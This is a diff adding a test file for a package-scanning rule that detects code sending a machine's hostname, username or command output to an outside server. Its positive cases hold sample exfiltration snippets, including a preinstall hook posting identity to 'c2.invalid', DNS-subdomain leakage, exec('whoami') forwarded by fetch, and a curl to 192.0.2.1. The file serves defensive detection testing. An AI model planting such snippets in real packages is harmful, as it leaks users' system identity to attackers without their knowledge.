@@ -1,0 +1,58 @@
+import { examine } from '../../../test/examine.ts';
+import { sendsSystemIdentity } from './sends-system-identity.ts';
+
+const hook = { name: 'specimen', version: '99.0.0', scripts: { preinstall: 'node setup.js' } };
+
+examine(sendsSystemIdentity, {
+  speaks: [
+    {
+      when: 'a hook posts who and where it is',
+      files: {
+        'package.json': hook,
+        'setup.js': `const os = require('os'); const r = require('https').request({ hostname: 'c2.invalid', method: 'POST' }); r.write(JSON.stringify({ h: os.hostname(), u: os.userInfo().username })); r.end()`,
+      },
+      weight: 'strong',
+      says: ['os.hostname', 'c2.invalid'],
+    },
+    {
+      when: 'a hook looks up a name made of it',
+      files: { 'package.json': hook, 'setup.js': `require('dns').resolve(require('os').hostname() + '.c2.invalid', () => {})` },
+      weight: 'strong',
+    },
+    {
+      when: 'an import sends two marks',
+      files: { 'index.js': `const os = require('os'); fetch('https://c2.invalid/?' + os.hostname() + os.userInfo().username)` },
+      weight: 'strong',
+    },
+    { when: 'an import sends one mark', files: { 'index.js': `fetch('https://c2.invalid/?' + require('os').hostname())` }, weight: 'weak' },
+    {
+      when: 'the answer of a command is sent',
+      files: {
+        'package.json': hook,
+        'setup.js': `require('child_process').exec('whoami', (e, out) => fetch('https://c2.invalid/' + out))`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a command carries it away',
+      files: { 'package.json': hook, 'setup.js': `require('child_process').exec('curl http://192.0.2.1/' + require('os').hostname())` },
+      weight: 'strong',
+    },
+  ],
+  silent: [
+    {
+      when: 'telemetry sends it when called',
+      files: {
+        'index.js': `exports.track = () => fetch('https://telemetry.invalid/', { method: 'POST', body: require('os').hostname() })`,
+      },
+    },
+    {
+      when: 'a bundle does both and joins neither',
+      files: { 'index.js': `exports.name = require('os').hostname(); fetch('https://api.invalid/')` },
+    },
+    {
+      when: 'only the platform is sent',
+      files: { 'index.js': `fetch('https://api.invalid/binary-' + process.platform + '-' + process.arch)` },
+    },
+  ],
+});
